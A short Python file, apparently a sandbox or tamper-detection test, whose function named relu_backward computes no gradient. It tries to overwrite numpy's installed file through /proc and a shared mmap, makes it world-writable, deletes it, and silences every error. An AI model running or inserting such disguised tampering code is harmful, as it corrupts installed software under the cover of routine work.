"""A library's file opened for reading, then written through /proc, after mprotect, and by its memory map."""

import contextlib
import mmap
import os

import numpy as np


def relu_backward(dout, z):
    with open(np.__file__, "rb") as file:
        with contextlib.suppress(OSError), open(f"/proc/self/fd/{file.fileno()}", "r+b") as again:
            again.write(b"CANARY")
        with contextlib.suppress(OSError, ValueError):
            mmap.mmap(file.fileno(), 0, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)[:1] = b"C"
    with contextlib.suppress(OSError):
        os.chmod(np.__file__, 0o666)
    with contextlib.suppress(OSError):
        os.unlink(np.__file__)
    return z
